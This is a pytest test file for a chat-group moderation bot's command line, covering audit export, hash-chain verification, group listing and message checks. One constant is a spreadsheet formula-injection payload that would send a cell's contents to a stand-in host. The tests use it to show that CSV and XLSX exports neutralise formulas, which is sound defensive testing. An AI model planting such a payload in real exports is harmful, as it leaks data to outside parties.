"""The ``qunguan`` command line on every database backend.

In-process through click's CliRunner (from a worker thread: the commands call asyncio.run), and
a few cases through ``python -m bot`` for the one-line stderr and the exit code of ``main``.
"""

from __future__ import annotations

import asyncio
import csv
import itertools
import json
import os
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from click.testing import CliRunner, Result
from sqlalchemy import text

from bot.cli import cli, main, safe_cell
from storage import registry
from storage.audit import GENESIS
from tests.conftest import PG_ENV

PROJECT = Path(__file__).resolve().parents[2]
SHANGHAI = ZoneInfo("Asia/Shanghai")
SHANGHAI_OFFSET = "+08:00"
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"点击")'
KEYS = ["id", "at", "group", "actor", "subject", "kind", "detail", "prev_hash", "hash"]


@pytest.fixture(autouse=True)
def clean_env(monkeypatch: pytest.MonkeyPatch) -> None:
    """No QUNGUAN_* override from the outside may redirect the CLI's database."""
    for name in list(os.environ):
        if name.upper().startswith("QUNGUAN_") and name != PG_ENV:
            monkeypatch.delenv(name)


def _config(folder: Path, database_url: str, extra: str = "") -> Path:
    cfg = folder / "bot.toml"
    cfg.write_text(f'[database]\nurl = "{database_url}"\n{extra}', encoding="utf-8")
    return cfg


async def _invoke(cfg: Path, *args: str) -> Result:
    runner = CliRunner()
    return await asyncio.to_thread(runner.invoke, cli, ["--config", str(cfg), *args])


def _json_lines(result: Result) -> list[dict[str, Any]]:
    assert result.exit_code == 0, (result.output, result.exception)
    return [json.loads(line) for line in result.stdout.splitlines()]


def _local(day: int, hour: int, minute: int = 0) -> datetime:
    """November 2026, Beijing time, as UTC."""
    return datetime(2026, 11, day, hour, minute, tzinfo=SHANGHAI).astimezone(UTC)


@pytest.fixture
async def audited(rt, clock, tmp_path: Path, database_url: str) -> Path:
    """Five audit entries on four local days; returns the bot.toml of that database."""
    entries = [
        (_local(20, 10), "group.seen", {"group": "qq:1", "detail": {"name": "一号群"}}),
        # 00:30 in Beijing is still the previous day in UTC: date filters must be local.
        (
            _local(21, 0, 30),
            "group.registered",
            {
                "group": "qq:1",
                "actor": "qq:10001",
                "subject": HYPERLINK,
                "detail": {"note": "=1+1", "unit": "信息中心"},
            },
        ),
        (
            _local(22, 9),
            "suggestion.logged",
            {"group": "qq:2", "actor": "@admin", "subject": "+86 来信", "detail": {"n": 1}},
        ),
        (_local(22, 15), "group.returned", {"group": "qq:2", "subject": "-1", "detail": {}}),
        (_local(23, 10), "policy.changed", {"actor": "qq:10001", "subject": "＝SUM(A1)"}),
    ]
    for at, kind, fields in entries:
        clock.value = at
        rt.audit.record(kind, **fields)
    await rt.audit.flush(5)
    return _config(tmp_path, database_url)


# -- audit listing ---------------------------------------------------------------------------------


async def test_audit_json_lines(audited: Path) -> None:
    rows = _json_lines(await _invoke(audited, "audit", "--json"))
    assert [r["id"] for r in rows] == [1, 2, 3, 4, 5]
    for row in rows:
        assert list(row) == KEYS
        assert row["at"].endswith(SHANGHAI_OFFSET)
        assert len(row["hash"]) == 64
    assert rows[0]["at"] == "2026-11-20T10:00:00+08:00"
    assert rows[1]["at"] == "2026-11-21T00:30:00+08:00"
    assert rows[0]["prev_hash"] == GENESIS
    assert all(b["prev_hash"] == a["hash"] for a, b in itertools.pairwise(rows))
    second = rows[1]
    assert (second["group"], second["actor"], second["kind"]) == (
        "qq:1",
        "qq:10001",
        "group.registered",
    )
    assert second["subject"] == HYPERLINK  # JSON is data, not a spreadsheet: kept verbatim
    assert second["detail"] == {"note": "=1+1", "unit": "信息中心"}
    assert rows[4]["group"] is None


async def test_audit_plain_listing(audited: Path) -> None:
    result = await _invoke(audited, "audit")
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert len(lines) == 5
    assert lines[0].startswith("#1\t2026-11-20T10:00:00+08:00\tqq:1\tgroup.seen（发现新群）")
    assert "\t—\t" in lines[4]  # no group


async def test_audit_filters(audited: Path) -> None:
    async def ids(*args: str) -> list[int]:
        return [r["id"] for r in _json_lines(await _invoke(audited, "audit", "--json", *args))]

    assert await ids("--group", "qq:2") == [3, 4]
    assert await ids("--kind", "group.returned") == [4]
    assert await ids("--kind", "group") == []  # exact unless it ends with a dot
    assert await ids("--kind", "group.") == [1, 2, 4]
    assert await ids("--kind", "group.*") == [1, 2, 4]
    assert await ids("--since", "2026-11-21") == [2, 3, 4, 5]
    assert await ids("--until", "2026-11-20") == [1]  # the until day is included, in local time
    assert await ids("--since", "2026-11-21", "--until", "2026-11-22") == [2, 3, 4]
    assert await ids("--since", "2026-11-22T12:00") == [4, 5]
    assert await ids("--group", "qq:1", "--kind", "group.", "--since", "2026-11-21") == [2]
    assert await ids("--group", "qq:404") == []


async def test_config_after_the_subcommand(audited: Path) -> None:
    runner = CliRunner()
    result = await asyncio.to_thread(
        runner.invoke, cli, ["audit", "--config", str(audited), "--json", "--kind", "policy."]
    )
    assert [r["id"] for r in _json_lines(result)] == [5]


async def test_bad_date_is_a_user_error(audited: Path) -> None:
    result = await _invoke(audited, "audit", "--since", "2026-13-01")
    assert result.exit_code == 1
    assert "时间格式不正确：2026-13-01" in result.stderr
    assert result.stdout == ""


# -- export ----------------------------------------------------------------------------------------


def test_safe_cell() -> None:
    for value in ["=1+1", "+1", "-1", "@x", "\t=1", "\r=1", "＝1", "＋1", "－1", "＠x"]:
        assert safe_cell(value) == "'" + value
    for value in ["qq:1", "信息中心", "", "'=1", " =1", "{}"]:
        assert safe_cell(value) == value
    assert safe_cell(5) == 5
    assert safe_cell(None) is None


async def test_export_csv_neutralises_formulas(audited: Path, tmp_path: Path) -> None:
    out = tmp_path / "审计.csv"
    result = await _invoke(audited, "audit", "export", "--format", "csv", "-o", str(out))
    assert result.exit_code == 0, result.output
    assert "已导出 5 条审计记录" in result.stdout
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM, so that Excel reads UTF-8
    with out.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == KEYS
    body = [dict(zip(KEYS, row, strict=True)) for row in rows[1:]]
    assert [r["id"] for r in body] == ["1", "2", "3", "4", "5"]
    assert body[1]["subject"] == "'" + HYPERLINK
    assert body[1]["at"] == "2026-11-21T00:30:00+08:00"
    assert json.loads(body[1]["detail"]) == {"note": "=1+1", "unit": "信息中心"}
    assert body[2]["actor"] == "'@admin"
    assert body[2]["subject"] == "'+86 来信"
    assert body[3]["subject"] == "'-1"
    assert body[4]["subject"] == "'＝SUM(A1)"
    assert body[0]["subject"] == ""  # None
    # No cell may start a formula.
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")), cell
    assert not [n for n in os.listdir(tmp_path) if n.startswith(".")]  # no temp file left


async def test_export_xlsx_neutralises_formulas(audited: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "audit.xlsx"
    result = await _invoke(audited, "audit", "export", "--format", "xlsx", "-o", str(out))
    assert result.exit_code == 0, result.output
    wb = load_workbook(out)
    ws = wb.active
    rows = list(ws.iter_rows())
    assert [c.value for c in rows[0]] == KEYS
    assert len(rows) == 6
    subject = rows[2][KEYS.index("subject")]
    assert subject.value == "'" + HYPERLINK
    assert subject.data_type == "s"
    for row in rows:
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert not cell.value.startswith(("=", "+", "-", "@")), cell.value
    assert rows[1][0].value == 1
    assert rows[2][KEYS.index("at")].value == "2026-11-21T00:30:00+08:00"
    wb.close()


async def test_export_jsonl_with_filters(audited: Path, tmp_path: Path) -> None:
    out = tmp_path / "audit.jsonl"
    result = await _invoke(
        audited, "audit", "--kind", "group.", "export", "--format", "jsonl", "-o", str(out)
    )
    assert result.exit_code == 0, result.output
    assert "已导出 3 条" in result.stdout
    raw = out.read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    rows = [json.loads(line) for line in raw.decode("utf-8").splitlines()]
    assert [r["id"] for r in rows] == [1, 2, 4]
    assert list(rows[0]) == KEYS
    assert rows[1]["subject"] == HYPERLINK  # JSON lines are data: not altered
    assert rows[1]["at"].endswith(SHANGHAI_OFFSET)


async def test_export_into_missing_folder_fails_without_a_file(
    audited: Path, tmp_path: Path
) -> None:
    out = tmp_path / "missing" / "audit.csv"
    result = await _invoke(audited, "audit", "export", "--format", "csv", "-o", str(out))
    assert result.exit_code == 1
    assert "目录不存在" in result.stderr
    assert not out.parent.exists()


async def test_export_replaces_an_existing_file(audited: Path, tmp_path: Path) -> None:
    out = tmp_path / "audit.jsonl"
    out.write_text("old\n", encoding="utf-8")
    result = await _invoke(audited, "audit", "export", "--format", "jsonl", "-o", str(out))
    assert result.exit_code == 0, result.output
    assert len(out.read_text("utf-8").splitlines()) == 5


# -- verify ----------------------------------------------------------------------------------------


async def test_verify_intact_chain(audited: Path) -> None:
    result = await _invoke(audited, "audit", "verify")
    assert result.exit_code == 0, result.output
    assert "审计链完整" in result.stdout
    assert "5" in result.stdout


async def test_verify_names_the_edited_entry(audited: Path, rt, database_url: str) -> None:
    cast = "CAST(:d AS JSONB)" if database_url.startswith("postgresql") else ":d"
    async with rt.sessions() as session:
        await session.execute(
            text(f"UPDATE audit_entry SET detail = {cast} WHERE id = 3"),
            {"d": json.dumps({"n": 2})},
        )
        await session.commit()
    result = await _invoke(audited, "audit", "verify")
    assert result.exit_code != 0
    assert "审计链完整" not in result.output
    assert "第 3 条" in result.stderr
    assert "此前 2 条完好" in result.stderr


async def test_verify_empty_database(rt, tmp_path: Path, database_url: str) -> None:
    result = await _invoke(_config(tmp_path, database_url), "audit", "verify")
    assert result.exit_code == 0, result.output
    assert "审计链完整：共 0 条" in result.stdout


# -- groups ----------------------------------------------------------------------------------------


@pytest.fixture
async def grouped(rt, tmp_path: Path, database_url: str) -> Path:
    now = datetime.now(UTC)
    async with rt.sessions() as session:
        await registry.ensure_group(session, "qq:1", "qq", "一号群", now)
        second, _ = await registry.ensure_group(session, "qq:2", "qq", "二号群", now)
        second.status = "registered"
        second.unit, second.matter, second.kind = "信息中心", "政务公开", "standing"
        second.registered_at = now
        await session.commit()
        # Seen long ago and never registered: overdue.
        await registry.ensure_group(
            session, "qq:3", "qq", "三号群", datetime(2025, 3, 3, 2, 0, tzinfo=UTC)
        )
    return _config(tmp_path, database_url)


async def test_groups_json(grouped: Path) -> None:
    rows = {r["group"]: r for r in _json_lines(await _invoke(grouped, "groups", "--json"))}
    assert list(rows) == ["qq:1", "qq:2", "qq:3"]
    assert {g: r["status"] for g, r in rows.items()} == {
        "qq:1": "unregistered",
        "qq:2": "registered",
        "qq:3": "unregistered",
    }
    assert rows["qq:1"]["name"] == "一号群"
    assert rows["qq:1"]["overdue"] is False
    assert rows["qq:1"]["deadline"].endswith(SHANGHAI_OFFSET)
    assert rows["qq:2"]["deadline"] is None
    assert (rows["qq:2"]["unit"], rows["qq:2"]["matter"]) == ("信息中心", "政务公开")
    assert rows["qq:3"]["overdue"] is True
    assert rows["qq:3"]["seen_at"] == "2025-03-03T10:00:00+08:00"
    assert rows["qq:3"]["deadline"] == "2025-03-06T00:00:00+08:00"  # Tue and Wed, then midnight


async def test_groups_status_filter(grouped: Path) -> None:
    async def listed(*args: str) -> list[str]:
        return [r["group"] for r in _json_lines(await _invoke(grouped, "groups", "--json", *args))]

    assert await listed("--status", "unregistered") == ["qq:1", "qq:3"]
    assert await listed("--status", "registered") == ["qq:2"]
    assert await listed("--status", "overdue") == ["qq:3"]
    assert await listed("--status", "dissolved") == []


async def test_groups_plain_and_empty(grouped: Path, tmp_path: Path) -> None:
    result = await _invoke(grouped, "groups")
    assert result.exit_code == 0, result.output
    lines = result.stdout.splitlines()
    assert lines[0] == "qq:1\t一号群\tunregistered\t—"
    assert lines[1] == "qq:2\t二号群\tregistered\t信息中心／政务公开"
    assert lines[2] == "qq:3\t三号群\tunregistered 超期\t—"
    result = await _invoke(grouped, "groups", "--status", "pending")
    assert result.stdout.strip() == "没有符合条件的群。"


async def test_groups_bad_status_is_a_usage_error(grouped: Path) -> None:
    result = await _invoke(grouped, "groups", "--status", "nonsense")
    assert result.exit_code == 2


# -- db upgrade ------------------------------------------------------------------------------------


async def test_db_upgrade_on_a_fresh_sqlite_file(tmp_path: Path) -> None:
    cfg = _config(tmp_path, "sqlite+aiosqlite:///data/fresh.db")
    result = await _invoke(cfg, "db", "upgrade")
    assert result.exit_code == 0, (result.output, result.exception)
    assert "数据库已是最新版本" in result.stdout
    assert (tmp_path / "data" / "fresh.db").is_file()  # relative to bot.toml's folder
    again = await _invoke(cfg, "db", "upgrade")
    assert again.exit_code == 0, again.output
    assert again.stdout == result.stdout
    listed = await _invoke(cfg, "groups", "--json")
    assert listed.exit_code == 0, listed.output
    assert listed.stdout == ""


@pytest.mark.parametrize("args", [["groups"], ["audit"], ["audit", "verify"]])
async def test_unmigrated_database_is_one_hint(
    empty_url: str, tmp_path: Path, args: list[str]
) -> None:
    result = await _invoke(_config(tmp_path, empty_url), *args)
    assert result.exit_code == 1
    assert result.stderr.splitlines() == ["Error: 数据库尚未初始化：请先运行 qunguan db upgrade"]


# -- main: one line per error on stderr, exit code (subprocess) -----------------------------------


def _main(cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.upper().startswith("QUNGUAN_")}
    return subprocess.run(
        [sys.executable, "-m", "bot", *args],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        encoding="utf-8",
        timeout=60,
        check=False,
    )


def test_main_broken_config_one_line_per_error(tmp_path: Path) -> None:
    cfg = tmp_path / "bot.toml"
    cfg.write_text(
        '[server]\nport = "abc"\n\n[database]\nurl = "mysql://x"\n\n[bot]\ncolour = 1\n',
        encoding="utf-8",
    )
    proc = _main(tmp_path, "--config", str(cfg), "groups")
    assert proc.returncode == 1
    assert proc.stdout == ""
    lines = proc.stderr.splitlines()
    assert len(lines) == 3, proc.stderr
    assert all(str(cfg) in line for line in lines)
    assert any("[server] port" in line for line in lines)
    assert any("[database] url" in line for line in lines)
    assert any("[bot] colour" in line for line in lines)
    assert "Traceback" not in proc.stderr


def test_main_missing_config_and_usage_error(tmp_path: Path) -> None:
    proc = _main(tmp_path, "audit", "--config", str(tmp_path / "nope.toml"))
    assert proc.returncode == 1
    assert proc.stderr.splitlines() == [f"qunguan: {tmp_path / 'nope.toml'}: 配置文件不存在"]
    proc = _main(tmp_path, "audit", "export", "--format", "pdf", "-o", "x.pdf")
    assert proc.returncode == 2
    assert len(proc.stderr.splitlines()) == 1, proc.stderr
    assert proc.stderr.startswith("qunguan: ")


def test_main_unmigrated_database(tmp_path: Path) -> None:
    _config(tmp_path, "sqlite+aiosqlite:///never-migrated.db")
    proc = _main(tmp_path, "audit", "--json")  # ./bot.toml by default
    assert proc.returncode == 1
    assert proc.stdout == ""
    assert proc.stderr.splitlines() == ["qunguan: 数据库尚未初始化：请先运行 qunguan db upgrade"]


async def test_group_policy_file(rt, tmp_path: Path, database_url: str) -> None:
    """`qunguan groups policy G FILE` validates the file, stores it, audits; --default resets."""
    import shutil

    from storage import audit as audit_store

    async with rt.sessions() as s:
        await registry.ensure_group(s, "qq:1", "qq", "工作群", rt.now())
    cfg = _config(tmp_path, database_url)
    shutil.copytree(PROJECT / "policies", tmp_path / "policies")
    strict = tmp_path / "policies" / "strict.toml"
    strict.write_text(
        (tmp_path / "policies" / "default.toml")
        .read_text("utf-8")
        .replace('version = "', 'version = "strict-', 1),
        "utf-8",
    )
    broken = tmp_path / "policies" / "broken.toml"
    broken.write_text("version = \n", "utf-8")

    result = await _invoke(cfg, "groups", "policy", "qq:1", "policies/broken.toml")
    assert result.exit_code != 0
    assert "策略文件不可用" in result.output
    result = await _invoke(cfg, "groups", "policy", "qq:1", "policies/strict.toml")
    assert result.exit_code == 0, result.output
    async with rt.sessions() as s:
        assert (await registry.get_group(s, "qq:1")).policy_file == "policies/strict.toml"
        entries = await audit_store.query(s, kind="policy.changed")
    assert entries[-1].group == "qq:1"
    assert entries[-1].detail["version"].startswith("strict-")
    result = await _invoke(cfg, "groups", "policy", "qq:1")
    assert "policies/strict.toml" in result.output
    result = await _invoke(cfg, "groups", "policy", "qq:1", "--default")
    assert result.exit_code == 0
    async with rt.sessions() as s:
        assert (await registry.get_group(s, "qq:1")).policy_file is None
    result = await _invoke(cfg, "groups", "policy", "qq:404", "--default")
    assert result.exit_code != 0
    assert "未找到群 qq:404" in result.output


# -- check / eval ----------------------------------------------------------------------------------

AD_TEXT = "加我微信 abc12345 领取补贴，刷单日结"
WORK_TEXT = "请各科室于周五前报送安全生产检查情况"
POLICY_EXTRA = f'[policy]\nfile = "{(PROJECT / "policies" / "default.toml").as_posix()}"\n'


def _findings(row: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {f["category"]: f for f in row["findings"]}


async def test_check_json_names_category_rule_span_term_action(
    tmp_path: Path, database_url: str
) -> None:
    cfg = _config(tmp_path, database_url, POLICY_EXTRA)
    [row] = _json_lines(await _invoke(cfg, "check", AD_TEXT, "--json"))
    assert row["text"] == AD_TEXT
    ad = _findings(row)["ad"]
    assert set(ad) == {"category", "rule", "span", "term", "action"}
    start, end = ad["span"]
    assert 0 <= start < end <= len(AD_TEXT)
    assert "recall" in ad["action"].split("+")
    [row] = _json_lines(await _invoke(cfg, "check", WORK_TEXT, "--json"))
    assert row["findings"] == []


async def test_check_masks_personal_data(tmp_path: Path, database_url: str) -> None:
    cfg = _config(tmp_path, database_url, POLICY_EXTRA)
    text = "我的身份证 11010519491231002X 请帮忙录入"
    [row] = _json_lines(await _invoke(cfg, "check", text, "--json"))
    pii = _findings(row)["pii"]
    assert "11010519491231002X" not in pii["term"]
    assert pii["term"].startswith("1101")
    assert "*" in pii["term"]
    assert text[pii["span"][0] : pii["span"][1]] == "11010519491231002X"


async def test_check_file_one_result_a_line_in_order(tmp_path: Path, database_url: str) -> None:
    cfg = _config(tmp_path, database_url, POLICY_EXTRA)
    messages = [
        WORK_TEXT,
        AD_TEXT,
        "",
        "收到\u2028好的",
        "谨防冒充领导诈骗，涉密文件一律不得在群内传输",
    ]
    src = tmp_path / "msgs.txt"
    src.write_text("\r\n".join(messages) + "\r\n", encoding="utf-8")
    rows = _json_lines(await _invoke(cfg, "check", "--file", str(src), "--json"))
    assert [r["text"] for r in rows] == messages
    assert [sorted(_findings(r)) for r in rows] == [[], ["ad"], [], [], []]
    plain = await _invoke(cfg, "check", "--file", str(src))
    assert plain.exit_code == 0, plain.output
    assert "\tlexicon:ad" in plain.stdout or "\tpattern:ad" in plain.stdout


async def test_check_group_uses_its_allow_list(rt, tmp_path: Path, database_url: str) -> None:
    from storage import moderation

    cfg = _config(tmp_path, database_url, POLICY_EXTRA)
    async with rt.sessions() as s:
        await registry.ensure_group(s, "qq:7", "qq", "调研群", rt.now())
    base = _json_lines(await _invoke(cfg, "check", AD_TEXT, "--group", "qq:7", "--json"))
    assert "ad" in _findings(base[0])
    term = _findings(base[0])["ad"]["term"]
    async with rt.sessions() as s:
        await moderation.add_allow(s, "qq:7", term, "qq:10001", rt.now(), None)
    [row] = _json_lines(await _invoke(cfg, "check", AD_TEXT, "--group", "qq:7", "--json"))
    assert all(f["term"] != term for f in row["findings"]), row
    # another group does not inherit qq:7's allow-list
    async with rt.sessions() as s:
        await registry.ensure_group(s, "qq:8", "qq", "别的群", rt.now())
    [row] = _json_lines(await _invoke(cfg, "check", AD_TEXT, "--group", "qq:8", "--json"))
    assert any(f["term"] == term for f in row["findings"])


async def test_check_user_errors(tmp_path: Path, database_url: str) -> None:
    cfg = _config(tmp_path, database_url, POLICY_EXTRA)
    result = await _invoke(cfg, "check")
    assert result.exit_code != 0
    assert "二选一" in result.output
    result = await _invoke(cfg, "check", "x", "--group", "qq:404")
    assert result.exit_code != 0
    assert "未找到群 qq:404" in result.output
    gbk = tmp_path / "gbk.txt"
    gbk.write_bytes("加我微信领取补贴\n".encode("gbk"))
    result = await _invoke(cfg, "check", "--file", str(gbk))
    assert result.exit_code != 0
    assert "不是 UTF-8 文本" in result.output


async def test_eval_prints_recall_and_goals(tmp_path: Path, database_url: str) -> None:
    cfg = _config(tmp_path, database_url, POLICY_EXTRA)
    data = tmp_path / "set.csv"
    with data.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["text", "label"])
        writer.writerow([AD_TEXT, "ad"])
        writer.writerow(["今天天气不错", "ad"])  # a miss: ad recall 0.5
        writer.writerow([WORK_TEXT, "ok"])
    result = await _invoke(cfg, "eval", str(data), "--show-errors")
    assert result.exit_code == 0, result.output
    assert "ad             2   0.500" in result.stdout
    assert "未达目标：ad 召回 0.500 < 0.95" in result.stdout
    assert "漏检 [ad] 今天天气不错" in result.stdout
    bad = tmp_path / "bad.csv"
    bad.write_text("message,category\nx,ad\n", encoding="utf-8")
    result = await _invoke(cfg, "eval", str(bad))
    assert result.exit_code != 0
    assert "需要 text 和 label 两列" in result.output


@pytest.mark.parametrize(
    ("args", "line"),
    [
        (
            ["check", "--file", "{tmp}/nope.txt"],
            "qunguan: --file：{tmp}/nope.txt 不存在（qunguan check --help 查看用法）",
        ),
        (
            ["eval", "{tmp}"],
            "qunguan: FILE：{tmp} 是目录，这里要文件（qunguan eval --help 查看用法）",
        ),
        (["eval"], "qunguan: 缺少参数 FILE（qunguan eval --help 查看用法）"),
        (
            ["audit", "export", "--format", "pdf", "-o", "x.pdf"],
            "qunguan: --format 只能是 csv、xlsx、jsonl（qunguan audit export --help 查看用法）",
        ),
        (["audit", "export", "--format"], "qunguan: 选项 --format 后面要跟一个值"),
        (
            ["check", "--fil", "x"],
            "qunguan: 没有选项 --fil（是不是 --config、--file？）（qunguan check --help 查看用法）",
        ),
        (["checkk"], "qunguan: 没有命令 checkk（qunguan --help 查看用法）"),
        (["check", "a", "b", "c"], "qunguan: 多余的参数：b c（qunguan check --help 查看用法）"),
    ],
)
def test_usage_errors_are_one_chinese_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], args: list[str], line: str
) -> None:
    with pytest.raises(SystemExit) as exit_:
        main([a.format(tmp=tmp_path) for a in args])
    assert exit_.value.code == 2
    assert capsys.readouterr().err.splitlines() == [line.format(tmp=tmp_path)]


def test_eval_of_a_file_that_is_not_utf8_is_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    bad = tmp_path / "rows.csv"
    bad.write_bytes(b"text,label\n\xff\xfe,ok\n")
    cfg = _config(tmp_path, "sqlite+aiosqlite:///data/q.db")
    with pytest.raises(SystemExit) as exit_:
        main(["eval", "--config", str(cfg), str(bad)])
    assert exit_.value.code == 1
    assert capsys.readouterr().err.splitlines() == [
        f"qunguan: {bad}: 不是 UTF-8 文本（第 12 个字节）"
    ]
